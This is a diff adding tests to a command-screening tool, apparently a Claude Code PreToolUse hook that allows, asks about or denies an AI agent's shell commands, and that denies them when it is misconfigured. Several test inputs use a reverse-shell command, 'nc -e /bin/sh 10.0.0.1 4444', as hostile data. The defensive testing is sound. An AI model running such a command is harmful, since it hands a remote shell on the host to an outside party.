@@ -187,6 +187,37 @@ test('corral check --hook claude-code answers in the PreToolUse protocol and exi
   assert.equal(broken.hookSpecificOutput.permissionDecision, 'ask');
   const noCmd = JSON.parse((await cli(['--hook', 'claude-code'], payload(42))).out) as typeof dj;
   assert.equal(noCmd.hookSpecificOutput.permissionDecision, 'ask');
+  // No tool named: ask; the tool name in another case is still Bash.
+  const noTool = JSON.parse((await cli(['--hook', 'claude-code'], JSON.stringify({ tool_input: { command: 'nc -e /bin/sh 10.0.0.1 4444' } }))).out) as typeof dj;
+  assert.equal(noTool.hookSpecificOutput.permissionDecision, 'ask');
+  assert.equal((JSON.parse((await cli(['--hook', 'claude-code'], payload('nc -e /bin/sh 10.0.0.1 4444', 'bash'))).out) as typeof dj).hookSpecificOutput.permissionDecision, 'deny');
+  // Another event than PreToolUse: no decision, and stderr says where to register it.
+  const post = await cli(['--hook', 'claude-code'], JSON.stringify({ hook_event_name: 'PostToolUse', tool_name: 'Bash', tool_input: { command: 'ls' } }));
+  assert.deepEqual(JSON.parse(post.out), {});
+  assert.match(post.err, /register the hook under PreToolUse/);
+});
+
+test('corral check --hook fails closed: a hook that cannot screen denies (exit 0, the reason named), never an error code Claude Code would ignore', async () => {
+  const hostile = JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'nc -e /bin/sh 10.0.0.1 4444' } });
+  for (const [args, why] of [
+    [['--hook', 'claude-code', '--rules', '/nonexistent/site.yaml'], /nonexistent\/site\.yaml/],
+    [['--hook', 'claude-code', '--deny-at', 'severe'], /--deny-at/],
+    [['--hook', 'claude'], /unknown hook protocol "claude"/],
+    [['--hook', 'claude-code', 'ls'], /only one input/],
+    [['--hook', 'claude-code', '--verbose'], /Unknown option '--verbose'/],
+    [['--hook', 'claude-code', '--json'], /--hook takes no --json/],
+  ] as const) {
+    const r = await cli([...args], hostile);
+    assert.equal(r.code, 0, `${args.join(' ')}: ${r.err}`);
+    const j = JSON.parse(r.out) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } };
+    assert.equal(j.hookSpecificOutput.permissionDecision, 'deny', args.join(' '));
+    assert.match(j.hookSpecificOutput.permissionDecisionReason, /could not screen this call/);
+    assert.match(j.hookSpecificOutput.permissionDecisionReason, why);
+    assert.match(r.err, why, 'said on stderr too');
+  }
+  // The same mistakes outside hook mode stay usage errors with their exit codes.
+  assert.equal((await cli(['--rules', '/nonexistent/site.yaml', '--', 'ls'], '')).code, 65);
+  assert.equal((await cli(['--verbose', '--', 'ls'], '')).code, 64);
 });
 
 test('corral check escapes control characters from the command in its output', async () => {
